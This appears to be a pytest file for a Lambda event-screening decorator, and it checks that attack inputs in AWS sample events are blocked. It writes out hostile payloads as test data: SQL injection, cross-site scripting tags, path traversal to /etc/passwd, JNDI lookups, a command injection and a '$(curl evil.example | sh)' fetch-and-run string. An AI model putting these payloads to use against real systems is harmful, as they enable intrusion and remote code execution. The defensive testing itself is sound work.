"""edge_ssre.protect on the real AWS sample events: HTTP triggers get a 403, batch triggers a
partial-batch failure naming only the bad record, other triggers an EventBlocked error; clean
events reach the handler untouched; async handlers work."""

import asyncio
import copy
import io
import json
import os
from contextlib import redirect_stdout

import pytest

from edge_ssre import protect
from edge_ssre.errors import EventBlocked

CORPUS = os.path.join(os.path.dirname(__file__), "..", "corpus", "aws_events")


def sample(name):
    with open(os.path.join(CORPUS, name)) as fh:
        return json.load(fh)


@protect
def echo(event, context):
    return {"ok": True, "records": len(event.get("Records", []))}


ATTACK = "1' OR '1'='1' --"


def test_clean_samples_reach_the_handler():
    for name in ("apiGatewayProxyEvent.json", "sqsEvent.json", "snsEvent.json", "s3Event.json",
                 "kinesisStreamEvent.json", "dynamoStreamEvent.json", "eventBridgeEvent.json"):
        assert echo(sample(name), None)["ok"] is True, name


@pytest.mark.parametrize("name,mutate", [
    ("apiGatewayProxyEvent.json", lambda e: e["queryStringParameters"].update(q=ATTACK)),
    ("apiGatewayProxyV2Event.json", lambda e: e.update(body=json.dumps({"n": "<script>alert(1)</script>"}))),
    ("lambdaFunctionUrlEvent.json", lambda e: e.update(rawQueryString="file=../../../etc/passwd")),
    ("albEvent.json", lambda e: e["queryStringParameters"].update(q="%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D")),
])
def test_http_triggers_get_a_bare_403(name, mutate):
    ev = sample(name)
    mutate(ev)
    with redirect_stdout(io.StringIO()) as out:
        resp = echo(ev, None)
    assert resp["statusCode"] == 403 and resp["body"] == "Forbidden"
    assert "finding" in out.getvalue()


def test_sqs_batch_reports_only_the_bad_record():
    ev = sample("sqsEvent.json")
    ev["Records"].append(copy.deepcopy(ev["Records"][0]))
    ev["Records"][-1]["messageId"] = "bad-one"
    ev["Records"][-1]["body"] = json.dumps({"cmd": "; cat /etc/passwd"})
    seen = []

    @protect
    def h(event, context):
        seen.extend(r["messageId"] for r in event["Records"])
        return {"batchItemFailures": []}
    with redirect_stdout(io.StringIO()):
        resp = h(ev, None)
    assert resp == {"batchItemFailures": [{"itemIdentifier": "bad-one"}]}
    assert "bad-one" not in seen and len(seen) == len(ev["Records"]) - 1


def test_kinesis_and_dynamodb_item_identifiers():
    import base64
    ev = sample("kinesisStreamEvent.json")
    ev["Records"][0]["kinesis"]["data"] = base64.b64encode(b'{"u": "<img src=x onerror=alert(1)>"}').decode()
    with redirect_stdout(io.StringIO()):
        resp = echo(ev, None)
    assert resp["batchItemFailures"] == [{"itemIdentifier": ev["Records"][0]["kinesis"]["sequenceNumber"]}]
    ev = sample("dynamoStreamEvent.json")
    ev["Records"][0]["dynamodb"]["NewImage"]["Message"] = {"S": "${jndi:ldap://x/a}"}
    with redirect_stdout(io.StringIO()):
        resp = echo(ev, None)
    assert resp["batchItemFailures"][0]["itemIdentifier"] == ev["Records"][0]["dynamodb"]["SequenceNumber"]


@pytest.mark.parametrize("name,mutate", [
    ("snsEvent.json", lambda e: e["Records"][0]["Sns"].update(Message=ATTACK)),
    ("s3Event.json", lambda e: e["Records"][0]["s3"]["object"].update(key="..%2F..%2F..%2Fetc%2Fpasswd")),
    ("eventBridgeEvent.json", lambda e: e["detail"].update(state="$(curl evil.example | sh)")),
])
def test_other_triggers_raise_event_blocked(name, mutate):
    ev = sample(name)
    mutate(ev)
    with redirect_stdout(io.StringIO()), pytest.raises(EventBlocked):
        echo(ev, None)


def test_async_handlers():
    @protect
    async def h(event, context):
        return "ran"
    assert asyncio.run(h(sample("sqsEvent.json"), None)) == "ran"
    ev = sample("apiGatewayProxyEvent.json")
    ev["queryStringParameters"]["q"] = ATTACK
    with redirect_stdout(io.StringIO()):
        assert asyncio.run(h(ev, None))["statusCode"] == 403


def test_alert_policy_and_custom_sink():
    got = []
    h = protect(policy={"mode": "alert-only"}, sink=lambda v, e: got.append(v.action))(lambda e, c: "ran")
    ev = sample("apiGatewayProxyEvent.json")
    ev["queryStringParameters"]["q"] = ATTACK
    assert h(ev, None) == "ran" and got == ["alert"]


def test_argument_errors():
    with pytest.raises(ValueError):
        protect(on_error="sometimes")
    with pytest.raises(ValueError):
        protect(behavior="paranoid")
